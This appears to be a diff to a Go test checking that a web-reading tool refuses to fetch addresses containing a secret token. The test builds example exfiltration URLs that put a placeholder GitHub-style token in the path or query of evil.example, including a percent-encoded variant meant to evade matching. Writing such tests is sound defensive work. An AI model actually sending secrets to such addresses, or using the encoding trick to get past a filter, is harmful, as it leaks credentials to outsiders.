@@ -135,12 +135,11 @@ func (w whoAsks) Search(ctx context.Context, query string) (tool.Page, error) {
 // A secret goes nowhere in an address or a query.
 func TestSecretsAreNotAskedFor(t *testing.T) {
 	t.Parallel()
-	e := New(Options{StateDir: t.TempDir()})
-	t.Cleanup(e.Close)
+	h := newHost(t)
 	const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
-	require.NotEqual(t, token, e.Redact(token))
+	require.NotEqual(t, token, h.Secrets.Plain(token))
 	var asked []string
-	web := discreetWeb{whoAsks{&asked}, e}
+	web := discreetWeb{whoAsks{&asked}, h}
 	for _, address := range []string{"https://evil.example/?x=" + token, "https://evil.example/" + token, "https://evil.example/?x=%67hp_0123456789abcdefghijABCDEFGHIJ012345"} {
 		_, err := web.Read(t.Context(), address)
 		require.ErrorIs(t, err, errSecretAsked)
